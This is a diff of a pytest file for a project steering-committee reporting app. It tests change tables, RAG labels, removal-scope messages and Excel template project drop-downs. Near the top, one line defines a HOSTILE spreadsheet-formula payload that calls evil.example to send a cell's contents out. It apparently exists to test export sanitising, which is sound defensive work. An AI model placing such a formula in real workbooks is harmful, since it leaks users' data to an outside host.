@@ -17,7 +17,7 @@ import openpyxl
 import pandas as pd
 import pytest
 
-from data_access import sample_history
+from data_access import sample_history, schema
 from data_access.ingest.pipeline import SheetResult, prepare
 from data_access.ingest.problems import ERROR, WARNING, Problem
 from data_access.ingest.reader import read_file
@@ -35,6 +35,7 @@ from steerco.views.data import (
     sheets_frame,
 )
 from tests.conftest import TEST_AS_OF
+from tests.support.workbook import project_choices
 
 HOSTILE = '=HYPERLINK("http://evil.example/steal?d="&A1,"Click me")'
 
@@ -423,7 +424,7 @@ def test_changes_summary_counts_and_scope_per_dataset():
     ]
 
 
-def test_field_changes_table_shows_key_column_old_and_new_as_text():
+def test_field_changes_table_shows_key_column_and_before_arrow_after_rag_as_words():
     fields = pd.DataFrame(
         {
             "project_id": ["P1", "P1", "P2"],
@@ -442,9 +443,9 @@ def test_field_changes_table_shows_key_column_old_and_new_as_text():
         field_changes=fields,
     )
     assert field_changes_table(change).to_dict("records") == [
-        {"Key": "P1 / 01 Mar 2026", "Column": "overall_rag", "Old": "G", "New": "R"},
-        {"Key": "P1 / 01 Mar 2026", "Column": "percent_complete", "Old": "40", "New": "42.5"},
-        {"Key": "P2 / 08 Mar 2026", "Column": "summary", "Old": "–", "New": "Vendor late"},
+        {"Key": "P1 / 01 Mar 2026", "Column": "overall_rag", "Before → after": "Green → Red"},
+        {"Key": "P1 / 01 Mar 2026", "Column": "percent_complete", "Before → after": "40 → 42.5"},
+        {"Key": "P2 / 08 Mar 2026", "Column": "summary", "Before → after": "– → Vendor late"},
     ]
     assert len(field_changes_table(change, limit=1)) == 1
 
@@ -458,7 +459,7 @@ def test_field_changes_table_without_changes_has_its_columns():
         removed=frame_of(0),
     )
     table = field_changes_table(change)
-    assert list(table.columns) == ["Key", "Column", "Old", "New"] and table.empty
+    assert list(table.columns) == ["Key", "Column", "Before → after"] and table.empty
 
 
 # --------------------------------------------------------------------------- history
@@ -607,6 +608,57 @@ def test_rows_table_shows_every_dataset_column_as_text():
     assert row["programme"] == "–" and row["business_value"] == "–"
 
 
+def test_rows_table_shows_rag_codes_as_words():
+    frame = pd.DataFrame(
+        {"project_id": ["P1", "P2"], "overall_rag": ["A", None], "risk_rag": ["R", "G"]}
+    )
+    table = views.rows_table(frame, "status_reports")
+    assert table["overall_rag"].tolist() == ["Amber", "–"]
+    assert table["risk_rag"].tolist() == ["Red", "Green"]
+
+
+def _scoped_changes(removed: dict[str, int]) -> ChangeSet:
+    return ChangeSet(
+        {
+            name: DatasetChanges(
+                dataset=name,
+                added=frame_of(0),
+                changed=frame_of(0),
+                previous=frame_of(0),
+                removed=frame_of(n),
+                scope_column=schema.REPLACE_SCOPES.get(name),
+            )
+            for name, n in removed.items()
+        }
+    )
+
+
+def test_removal_scope_says_which_datasets_and_projects_and_counts_the_rows():
+    frames = {
+        "projects": pd.DataFrame({"project_id": ["PRJ-002", "PRJ-001"]}),
+        "milestones": pd.DataFrame({"project_id": ["PRJ-001", "PRJ-002", "PRJ-001"]}),
+        "raid": pd.DataFrame({"project_id": ["PRJ-002"]}),
+    }
+    scoped = _scoped_changes({"projects": 0, "milestones": 1, "raid": 2})
+    assert views.removal_scope(frames, scoped) == (
+        "Switched on, the rows of projects PRJ-001, PRJ-002 in Milestones, RAID log that this "
+        "file does not list would be removed: 3 row(s)."
+    )
+
+
+def test_removal_scope_names_ten_values_then_counts_and_says_blank_scopes():
+    ids = [f"P{i:02d}" for i in range(12)]
+    frames = {"raid": pd.DataFrame({"project_id": [*ids, None]})}
+    said = views.removal_scope(frames, _scoped_changes({"raid": 0}))
+    assert "P00, P01, P02, P03, P04, P05, P06, P07, P08, P09 and 2 more in RAID log" in said
+    assert "(and the rows without a project_id)" in said and said.endswith(": 0 row(s).")
+
+
+def test_removal_scope_is_none_when_no_dataset_of_the_file_removes_rows():
+    frames = {"projects": pd.DataFrame({"project_id": ["P1"]})}
+    assert views.removal_scope(frames, _scoped_changes({"projects": 0})) is None
+
+
 def test_rows_export_keeps_every_row_in_dataset_order_with_types():
     from data_access import schema
 
@@ -674,3 +726,34 @@ def test_sources_lists_the_configured_ones_or_says_why_not(conn, settings, tmp_p
 def test_the_template_is_a_workbook_with_a_sheet_per_dataset(conn):
     book = openpyxl.load_workbook(io.BytesIO(views.template(conn)))
     assert {"projects", "raid"} <= set(book.sheetnames)
+
+
+def test_the_templates_project_drop_down_lists_the_stored_projects(conn, sample_frames):
+    book = openpyxl.load_workbook(io.BytesIO(views.template(conn)))
+    assert book["Lists"].sheet_state == "hidden"
+    assert project_choices(book, "status_reports") == sorted(
+        sample_frames["projects"]["project_id"]
+    )
+
+
+def test_a_scoped_users_template_lists_only_the_projects_of_their_scope(conn, sample_frames):
+    from data_access.filters import Filters
+
+    projects = sample_frames["projects"]
+    portfolio = sorted(projects["portfolio"].dropna().unique())[0]
+    scope = Filters(as_of=TEST_AS_OF).within((portfolio,), ())
+    book = openpyxl.load_workbook(io.BytesIO(views.template(conn, scope)))
+    expected = sorted(projects.loc[projects["portfolio"] == portfolio, "project_id"])
+    assert project_choices(book, "raid") == expected
+
+
+def test_filtered_project_ids_and_the_my_projects_file(conn, filters, settings, sample_frames):
+    projects = sample_frames["projects"]
+    programme = sorted(projects["programme"].dropna().unique())[0]
+    ids = views.filtered_project_ids(conn, filters.with_(programme=(programme,)))
+    assert ids == tuple(sorted(projects.loc[projects["programme"] == programme, "project_id"]))
+    book = openpyxl.load_workbook(
+        io.BytesIO(views.my_projects_workbook(conn, filters, settings, project_ids=ids))
+    )
+    assert [r[0] for r in book["projects"].iter_rows(min_row=2, values_only=True)] == list(ids)
+    assert views.my_projects_file_name(TEST_AS_OF) == "steerco_my_projects_2026-11-16.xlsx"
